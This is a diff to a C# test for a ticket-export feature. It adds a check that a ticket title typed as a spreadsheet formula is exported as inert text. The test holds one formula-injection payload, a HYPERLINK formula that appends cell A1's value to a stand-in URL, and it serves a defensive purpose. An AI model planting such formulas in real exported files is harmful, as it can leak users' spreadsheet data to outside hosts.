@@ -21,12 +21,14 @@ public sealed class TicketsExportTests : IAsyncLifetime
         await azurite.InitializeAsync();
         store = new TableTicketStore(new TableServiceClient(azurite.ConnectionString), Options.Create(new TicketOptions()), TimeProvider.System);
         numbers.Add((await store.FileAsync("c|1", n => TicketStoreTests.Sample(n, problem: "printer, \"jammed\"\nagain; ünïcødé 😀"), CancellationToken.None)).Ticket.Number);
-        numbers.Add((await store.FileAsync("c|2", n => TicketStoreTests.Sample(n, problem: "wifi down"), CancellationToken.None)).Ticket.Number);
+        numbers.Add((await store.FileAsync("c|2", n => TicketStoreTests.Sample(n, problem: "wifi down", title: Formula), CancellationToken.None)).Ticket.Number);
         await store.UpdateAsync(numbers[1], t => new TicketChange(t with { Status = TicketStatus.Resolved, ResolvedAt = DateTimeOffset.UtcNow },
             [new NewEvent("tech-1", "Taylor", TicketEventKind.Resolved, "Resolved", "Restarted the access point")]), CancellationToken.None);
     }
 
     public Task DisposeAsync() => azurite.DisposeAsync();
+
+    const string Formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
 
     [Fact]
     public async Task Json_lines_hold_every_ticket_with_its_history()
@@ -48,6 +50,9 @@ public sealed class TicketsExportTests : IAsyncLifetime
         Assert.Equal(numbers, rows.Select(r => r.Number));
         Assert.Equal("printer, \"jammed\"\nagain; ünïcødé 😀", rows[0].Problem);
         Assert.Equal("Resolved", rows[1].Status);
+        // A title typed as a formula stays text when the file is opened in a spreadsheet.
+        Assert.NotEqual('=', rows[1].Title[0]);
+        Assert.EndsWith(Formula, rows[1].Title);
 
         var open = (await ExportAsync("--status", "open")).Split('\n', StringSplitOptions.RemoveEmptyEntries);
         Assert.Equal(numbers[0], JsonSerializer.Deserialize<Ticket>(Assert.Single(open), JsonLines.Options)!.Number);
